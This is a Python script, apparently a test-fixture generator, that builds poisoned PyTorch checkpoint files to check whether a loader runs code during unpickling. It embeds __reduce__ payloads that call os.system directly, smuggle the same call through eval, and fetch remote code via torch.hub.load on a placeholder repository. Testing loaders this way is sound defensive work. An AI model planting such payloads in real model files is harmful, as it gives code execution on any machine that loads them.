"""PyTorch files that would run a command in Python's own reader.

argv: an empty folder, and a path the command would make. Writes one folder a trick, each with
model_world_size_1_rank_0.pt and config.json.
"""

import os
import sys

import torch

folder, proof = sys.argv[1:3]


class Command:
    def __reduce__(self):
        return os.system, (f"touch {proof}",)


class Evaluated:
    def __reduce__(self):
        return eval, (f"__import__('os').system('touch {proof}')",)


class Built:
    def __reduce__(self):
        import torch.hub

        return torch.hub.load, ("nobody/nothing", "nothing")


for name, state in {
    "value": {"weight": torch.ones(2), "evil": Command()},
    "inside": {"weight": torch.ones(2), "deep": {"list": [Evaluated()]}},
    "library": {"weight": Built()},
}.items():
    os.makedirs(os.path.join(folder, name))
    torch.save(state, os.path.join(folder, name, "model_world_size_1_rank_0.pt"))
    with open(os.path.join(folder, name, "config.json"), "w") as config:
        config.write("{}")
